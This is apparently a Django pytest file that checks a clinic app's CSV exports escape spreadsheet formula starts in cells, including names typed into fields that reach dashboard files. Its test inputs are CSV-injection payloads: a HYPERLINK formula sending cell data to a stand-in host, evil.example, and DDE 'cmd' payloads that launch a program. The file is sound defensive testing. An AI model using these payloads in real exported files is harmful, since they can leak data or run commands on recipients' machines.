"""Every CSV the app hands out neutralises cells a spreadsheet would run as a formula (one shared writer)."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from clients.models import CaseStatus, ReferralDestination, StatusChange
from figures.statistics import dashboard, dashboard_tables
from kast.csv_export import FORMULA_STARTS, csv_response, neutralised
from tests.factories import ClientFactory, TherapySessionFactory, open_first_period

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_writer_neutralises_every_formula_start(formula):
    response = csv_response("x.csv", [formula], [[formula, 3, -4, "text"]])

    written = cells(response)
    assert written == ["'" + formula, "'" + formula, "3", "-4", "text"]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in written if cell != "-4")


def test_numbers_and_plain_text_stay_as_they_are():
    assert [neutralised(v) for v in (5, -5, 2.5, None, "<5", "Göteborg", "")] == [
        5,
        -5,
        2.5,
        None,
        "<5",
        "Göteborg",
        "",
    ]


@pytest.mark.django_db
def test_formulas_typed_into_fields_never_start_a_cell_of_a_dashboard_csv(client, gbg, therapist, manager):
    """Clinic and staff names and the names of the clinic's referral destinations reach the dashboard's files."""
    gbg.name = FORMULAS[0]
    gbg.save(update_fields=["name"])
    therapist.first_name, therapist.last_name = FORMULAS[1], FORMULAS[3]
    therapist.save(update_fields=["first_name", "last_name"])
    today = timezone.localdate()
    for formula in FORMULAS:
        c = open_first_period(ClientFactory(responsible_therapist=therapist, first_contact_date=today))
        TherapySessionFactory(client=c, date=today)
        StatusChange.objects.create(
            client=c,
            episode=c.episodes.get(),
            from_status=CaseStatus.CONTACT,
            to_status=CaseStatus.REFERRED,
            referred_to=ReferralDestination.objects.create(clinic=gbg, name=formula),
            destination=formula,
            by=therapist,
        )
    client.force_login(manager)
    period = {"period": "year", "start": today.isoformat()}
    start = datetime.date(today.year, 1, 1)
    keys = [t.key for t in dashboard_tables(dashboard(gbg, start, datetime.date(today.year, 12, 31)))]

    written = [cell for key in keys for cell in cells(client.get(reverse("figures:dashboard_csv", args=[key]), period))]

    assert len(keys) > 10
    # The destinations did reach a file (grouped by their text), neutralised.
    assert {"'" + formula for formula in FORMULAS} <= set(written)
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]
